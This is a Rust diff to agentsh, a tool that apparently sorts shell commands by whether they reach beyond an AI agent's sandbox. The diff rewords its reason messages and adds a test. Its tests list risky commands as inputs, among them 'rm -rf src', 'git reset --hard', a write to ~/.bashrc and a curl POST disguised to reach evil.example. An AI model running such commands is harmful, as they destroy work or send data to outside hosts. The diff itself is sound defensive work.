@@ -187,7 +187,7 @@ pub fn edge_of(a: &Assessment, view: &BoxView) -> Option<Edge> {
         return None;
     }
     if a.rule == "parse" {
-        return edge(EdgeKind::Unjudged, "agentsh cannot read this text, so it cannot tell what would run");
+        return edge(EdgeKind::Unjudged, "is text agentsh cannot read, so agentsh cannot tell what would run");
     }
     // Parts made without unwrapping (redirects) keep their words in `argv` only.
     let argv = if a.inner().is_empty() { a.argv.as_slice() } else { a.inner() };
@@ -210,7 +210,7 @@ pub fn edge_of(a: &Assessment, view: &BoxView) -> Option<Edge> {
         // Unknown programs run inside the box; a few that reach other machines or publish,
         // which agentsh has no rule for, do not.
         Category::Unknown if REMOTE.contains(&program) => {
-            edge(EdgeKind::World, format!("`{program}` connects to another machine"))
+            edge(EdgeKind::World, format!("connects to another machine (`{program}`)"))
         }
         Category::Unknown => build_tools(first, &args, view),
         Category::FileWrite => file_write(program, &args, view),
@@ -301,7 +301,7 @@ fn dev_ops(program: &str, args: &Argv, risk: Risk) -> Option<Edge> {
     match program {
         "git" => git(args, risk),
         "sqlite3" => None,
-        _ => edge(EdgeKind::World, format!("`{program}` acts on services, containers, clusters or cloud resources")),
+        _ => edge(EdgeKind::World, format!("acts on services, containers, clusters or cloud resources (`{program}`)")),
     }
 }
 
@@ -371,7 +371,10 @@ fn build_tools(written: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
     match program {
         "npm" | "pnpm" | "yarn" | "bun" => {
             if sub.is_some_and(|s| PUBLISH.contains(&s)) {
-                return edge(EdgeKind::World, format!("`{program} {}` changes a package registry", sub.unwrap_or("")));
+                return edge(
+                    EdgeKind::World,
+                    format!("changes a package registry (`{program} {}`)", sub.unwrap_or("")),
+                );
             }
             if global || sub == Some("link") && args.positionals.len() == 1 {
                 return edge(EdgeKind::Outside, "installs globally, outside the workspace");
@@ -913,6 +916,39 @@ mod tests {
             "curl -X POST 'http://localhost'@evil.example/",
         ] {
             assert_eq!(kind(t), Some(EdgeKind::World), "{t}");
+        }
+    }
+
+    /// Issue 29, item 11: an edge's reason is read after "it" ("outside the sandbox: it changes
+    /// a package registry"), so it starts with a verb, never with a command or "agentsh".
+    #[test]
+    fn reasons_read_after_it() {
+        let mut v = view();
+        v.network = false;
+        for t in [
+            "npm publish",
+            "kubectl apply -f x",
+            "sshpass -p x ssh host",
+            "mosh host",
+            "cargo publish",
+            "pip install six",
+            "git push",
+            "curl -X POST https://x.example",
+            "curl https://x.example",
+            "sudo ls",
+            "kill 1",
+            "rm -rf src",
+            "git reset --hard",
+            "echo x > ~/.bashrc",
+            "systemctl restart x",
+            "$(cat)",
+        ] {
+            for a in assess::assess(&parse::parse(t).unwrap()) {
+                let Some(e) = edge_of(&a, &v) else { continue };
+                let first = e.why.split_whitespace().next().unwrap_or("");
+                assert!(!first.starts_with('`') && first != "agentsh", "{t}: it {}", e.why);
+                assert!(first.ends_with('s') || first == "is", "{t}: it {}", e.why);
+            }
         }
     }
 
